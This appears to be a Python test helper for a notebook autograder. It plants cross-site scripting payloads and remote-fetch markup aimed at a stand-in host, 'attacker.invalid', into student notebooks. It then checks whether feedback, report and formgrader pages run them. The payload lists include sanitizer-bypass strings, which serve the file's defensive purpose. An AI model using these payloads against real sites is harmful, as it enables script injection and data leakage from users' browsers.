"""The pages that people open about a submission, and markup that would like to run there."""

from pathlib import Path

import nbformat
from nbconvert.exporters import HTMLExporter
from traitlets.config import Config

from cases.parse._browser import happened

SCRIPTS = (
    "<script>pwned()</script>",
    '<img src="x" onerror="pwned()">',
    '<svg onload="pwned()"><script>pwned()</script></svg>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<details open ontoggle="pwned()">x</details>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned()>'>",
    '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<a href="javascript:pwned()">x</a><a href="JaVa&#10;ScRiPt:pwned()">y</a>',
    '<object data="data:text/html,<script>parent.pwned()</script>"></object>',
    '<input autofocus onfocus="pwned()"><video src=x onerror="pwned()"></video>',
)
FETCHES = (
    '<img src="http://attacker.invalid/i.png"><img srcset="http://attacker.invalid/i.png 2x" src="y">',
    '<div style="background:url(http://attacker.invalid/b.png)">x</div>',
    "<style>@import url(http://attacker.invalid/s.css);</style>",
    '<link rel="stylesheet" href="http://attacker.invalid/s.css">',
    '<base href="http://attacker.invalid/"><img src="relative.png">',
    '<iframe src="http://attacker.invalid/"></iframe>',
    '<form action="http://attacker.invalid/"><button autofocus>x</button></form>',
)
MOVES = '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">'
MARKDOWN = (
    "![x](http://attacker.invalid/m.png) [x](javascript:pwned())",
    '![x](attachment:a.png "\\"><script>pwned()</script>")',
    "$\\href{javascript:pwned()}{x}$ $\\text{<script>pwned()</script>}$ $$<img src=x onerror=pwned()>$$",
    "```html\n</code></pre><script>pwned()</script>\n```",
    "| <script>pwned()</script> |\n|---|\n| <img src=x onerror=pwned()> |",
)


def shows(texts: tuple[str, ...]) -> str:
    """A right answer that shows ``texts`` in each way in which a notebook can show something."""
    return f"""
def double(x):
    return 2 * x

import sys
from IPython.display import HTML, SVG, Latex, Markdown, display

TEXTS = {texts!r}
for text in TEXTS:
    display(HTML(text), Markdown(text), Latex(text))
    display({{"text/plain": text, "text/html": text, "image/svg+xml": text, "image/png": text}}, raw=True)
    print(text)
    print(text, file=sys.stderr)
"""


def writes(folder: Path, texts: tuple[str, ...]) -> None:
    """Put ``texts`` where a notebook takes them without running anything."""
    path = folder / "hw.ipynb"
    node = nbformat.read(path, 4)  # type: ignore[no-untyped-call]
    make = nbformat.v4.new_markdown_cell
    for number, text in enumerate(texts):
        attachments = {f'{text}"': {"image/png": text}, "a.png": {"image/svg+xml": text}}
        cell = make(text, attachments=attachments)  # type: ignore[no-untyped-call]
        cell.metadata = {"nbgrader": {"grade_id": f"{text}{number}"}, "tags": [text], "name": text}
        cell["id"] = f"c{number}"
        node.cells.append(cell)
    node.metadata["title"] = texts[0]
    nbformat.write(node, path)  # type: ignore[no-untyped-call]


def opened(root: Path, student: str) -> list[str]:
    """What happens when people open feedback, class report and formgrader's view of ``student``'s work."""
    aside = root.with_name(f"{root.name}-pages-{student}")
    aside.mkdir()
    (aside / "report.html").write_text(_report(root))
    notebook = root / "autograded" / student / "hw/hw.ipynb"
    (aside / "formgrader.html").write_text(_in_formgrader(notebook))
    return happened([*aside.glob("*.html"), *(root / "feedback" / student).rglob("*.html")])


def opened_feedback(root: Path, student: str) -> list[str]:
    """What happens when ``student`` opens the feedback."""
    return happened((root / "feedback" / student).rglob("*.html"))


def _report(root: Path) -> str:
    from autograder.classrun import recorded_results
    from autograder.course import open_course
    from autograder.report import render_report

    return render_report("hw", recorded_results(open_course(root, {}), "hw"))


def _in_formgrader(notebook: Path) -> str:
    """The notebook as nbgrader's page draws it, with the steps that ``autograder.use`` adds to it."""
    from autograder.dropin import use

    config = Config()
    use(config)
    html, _ = HTMLExporter(config=config).from_filename(str(notebook))  # type: ignore[no-untyped-call]
    return str(html)


def drawn_by_nbconvert(folder: Path, source: str, html: tuple[str, ...]) -> list[str]:
    """What happens on the page that nbgrader itself would make of the same markup."""
    outputs = [nbformat.v4.new_output("display_data", {"text/html": text}) for text in html]  # type: ignore[no-untyped-call]
    make_code, make_text = nbformat.v4.new_code_cell, nbformat.v4.new_markdown_cell
    cells = [make_text(source), make_code("", outputs=outputs)]  # type: ignore[no-untyped-call]
    node = nbformat.v4.new_notebook(cells=cells)  # type: ignore[no-untyped-call]
    page, _ = HTMLExporter().from_notebook_node(node)  # type: ignore[no-untyped-call]
    (folder / "page.html").write_text(page)
    return happened([folder / "page.html"])
